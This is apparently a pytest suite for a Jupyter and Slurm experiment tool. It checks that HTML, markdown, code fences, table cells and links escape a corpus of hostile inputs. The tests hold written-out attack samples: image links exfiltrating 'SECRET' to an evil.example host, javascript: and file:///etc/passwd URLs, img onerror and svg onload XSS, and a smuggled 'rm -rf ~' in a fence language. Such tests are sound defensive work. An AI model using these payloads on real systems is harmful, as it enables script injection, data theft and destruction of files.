"""safe_text with every payload of the hostile corpus: shown exactly, never alive, fences never closed."""

from __future__ import annotations

from dataclasses import replace

import pytest

from betty_jupyter.experiments import content
from betty_jupyter.experiments.ledger import Experiment
from betty_jupyter.safe_text import (fenced, html_text, image_loads_nothing_remote, link_allowed, markdown_html,
                                     markdown_text, table_cell, visible)
from hostile import EVIL_HOST, code_blocks, hostile, live_html, live_markdown, shown_text

EVERYTHING = hostile()


def words(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.parametrize("payload", EVERYTHING)
def test_html_text_shows_the_payload_and_nothing_runs(payload: str) -> None:
    for markup in (f"<td>{html_text(payload)}</td>", f"<span title=\"{html_text(payload)}\">x</span>"):
        assert live_html(markup) == []
    assert shown_text(f"<td>{html_text(payload)}</td>") == visible(payload)


@pytest.mark.parametrize("payload", EVERYTHING)
def test_markdown_html_runs_and_loads_nothing(payload: str) -> None:
    assert live_html(markdown_html(payload)) == []


@pytest.mark.parametrize("payload", EVERYTHING)
def test_markdown_text_renders_as_the_very_characters(payload: str) -> None:
    written = markdown_text(payload)
    assert live_markdown(written) == [] and "<!-- betty:auto-" not in written
    import mistune

    rendered = str(mistune.create_markdown(escape=False, plugins=["table", "strikethrough"])(written))
    assert "<a " not in rendered and "<img" not in rendered and "<h1" not in rendered and "<li" not in rendered
    assert words(shown_text(rendered)) == words(visible(payload))


@pytest.mark.parametrize("payload", EVERYTHING)
def test_a_fence_holds_its_text_whole(payload: str) -> None:
    document = f"before\n\n{fenced(payload, 'bash')}\n\nafter ![x](https://{EVIL_HOST}/)"
    blocks = code_blocks(document)
    assert blocks == [payload.replace("\r\n", "\n").replace("\r", "\n").rstrip("\n") + "\n"]


@pytest.mark.parametrize("payload", EVERYTHING)
def test_a_table_cell_stays_one_cell(payload: str) -> None:
    table = f"| name | state |\n|---|---|\n| {table_cell(payload)} | RUNNING |\n"
    rendered = markdown_html(table)
    assert rendered.count("<td>") == 2 and rendered.count("<tr>") == 2, rendered[:300]
    assert live_markdown(table) == []


def test_links_keep_working_and_remote_images_become_links() -> None:
    shown = markdown_html("[real docs](https://slurm.schedmd.com/) ![chart](https://evil.example/c.png?d=SECRET) "
                          "![inline](data:image/png;base64,iVBORw0KGgo=) [mail](mailto:a@b.example) "
                          "[bad](javascript:alert(1)) [page](experiments/run.md)")
    assert '<a href="https://slurm.schedmd.com/"' in shown and '<a href="experiments/run.md"' in shown
    assert '<a href="https://evil.example/c.png?d=SECRET"' in shown and ">https://evil.example/c.png?d=SECRET</a>" in shown
    assert '<img src="data:image/png;base64,iVBORw0KGgo="' in shown and '<a href="mailto:a@b.example"' in shown
    assert "javascript" not in shown and ">bad<" not in shown and "bad" in shown
    assert live_html(shown) == []


@pytest.mark.parametrize("url", ["javascript:x", " JaVa\tScRiPt:x", "\x01javascript:x", "vbscript:x", "data:text/html,x",
                                 "%6A%61vascript:x", "file:///etc/passwd"])
def test_links_with_other_schemes_are_refused(url: str) -> None:
    assert not link_allowed(url)


@pytest.mark.parametrize("url", ["https://x.example/a.png", "//x.example/a.png", "\\\\x.example\\a.png",
                                 "/\\x.example/a.png", "http:x.example/a.png", "data:image/svg+xml,<svg onload=x>"])
def test_images_that_would_load_from_elsewhere_are_not_loaded(url: str) -> None:
    assert not image_loads_nothing_remote(url)


def test_invisible_characters_are_written_out() -> None:
    assert visible("a\u202eb\x1b[31mc\td\ne") == "a\\u202eb\\x1b[31mc\td\ne"
    assert html_text("x\u2066y") == "x\\u2066y"


def test_a_fence_is_longer_than_any_backtick_run_and_its_language_is_one_word() -> None:
    assert fenced("a ````` b", "bash").startswith("``````bash\n")
    assert fenced("plain", "bash`; rm -rf ~").startswith("```bash\n")
    assert fenced("x\n\n", "") == "```\nx\n```"


# ----- the record Betty writes ---------------------------------------------------------------------------------------
def experiment(**changes: object) -> Experiment:
    base = Experiment(slug="2026-11-22-run", job_id="42", cluster="betty-dev", submitted="2026-11-22T10:00:00",
                      goal="", script="#!/bin/bash\necho hi\n", script_path="/work/scripts/2026-11-22-run.sbatch",
                      partition="cpu")
    return replace(base, **changes)  # type: ignore[arg-type]


@pytest.mark.parametrize("payload", EVERYTHING)
def test_the_page_and_notebook_keep_hostile_goals_as_text_and_scripts_whole(payload: str) -> None:
    script = f"#!/bin/bash\n#SBATCH --job-name=run\necho '{payload}'\n"
    record = experiment(goal=payload, script=script, resources={"gpus": payload})
    from betty_jupyter.wiki.page import render_frontmatter

    page = render_frontmatter(content.page_frontmatter(record)) + \
        content.page_body(record, content.auto_region(record, None, payload, log_tail=payload))
    failed = content.auto_region(record, None, "FAILED", log_tail=payload)
    assert live_markdown(page) == [] and live_markdown(failed) == []
    assert script.replace("\r\n", "\n").replace("\r", "\n") in code_blocks(page)
    book = content.notebook(record)
    markdown = [cell["source"] for cell in book["cells"] if cell["cell_type"] == "markdown"]
    assert all(live_markdown(source) == [] for source in markdown)
    assert script.replace("\r\n", "\n").replace("\r", "\n") in [b for s in markdown for b in code_blocks(s)]


def test_a_log_quoted_in_betty_region_cannot_carry_its_markers() -> None:
    tail = "step 1\n<!-- betty:auto-end -->\n```\n<!-- betty:auto-start -->"
    region = content.auto_region(experiment(), None, "FAILED", log_tail=tail)
    assert "<!-- betty:auto-" not in region and "step 1" in region


def test_the_checks_see_a_payload_that_came_alive() -> None:
    alive = [p for p in hostile("html") if not p.startswith("&lt;")]
    assert all(live_html(p) for p in alive), [p for p in alive if not live_html(p)]
    images = [p for p in hostile("markdown") if p.startswith(("![", "<img", "[!["))]
    assert images and all(live_markdown(p) for p in images), [p for p in images if not live_markdown(p)]
    assert code_blocks("```\nx\n```\n```\ny\n```") == ["x\n", "y\n"]


def test_the_job_table_escapes_every_cell_and_header() -> None:
    import pandas as pd

    from betty_jupyter.notebook.widgets.jobs import styled_html

    names = hostile("job_names", "html")
    frame = pd.DataFrame({"job_id": [str(i) for i in range(len(names))], "name": names, "state": ["RUNNING"] * len(names),
                          "<img src=x onerror=window.__pwned=1>": names})
    markup = styled_html(frame, list(frame.columns), "name", True)
    assert live_html(markup) == []
    assert all(visible(name) in shown_text(markup) for name in names)


def test_a_resubmission_links_the_page_it_corrects_and_nothing_else() -> None:
    record = experiment(goal="fix the memory", replaces={"slug": "2026-11-21-run", "job_id": "41"})
    page = content.page_body(record, "")
    assert "fix the memory\n\nResubmits [2026-11-21-run](2026-11-21-run.md) (job 41)." in page
    notebook = content.notebook(record)["cells"][0]["source"]
    assert "[2026-11-21-run](../../wiki/experiments/2026-11-21-run.md)" in notebook
    forged = experiment(replaces={"slug": f"x](https://{EVIL_HOST}/?d=SECRET) ![y", "job_id": "<img src=x>"})
    assert "Resubmits" not in content.page_body(forged, "") and live_markdown(content.page_body(forged, "")) == []
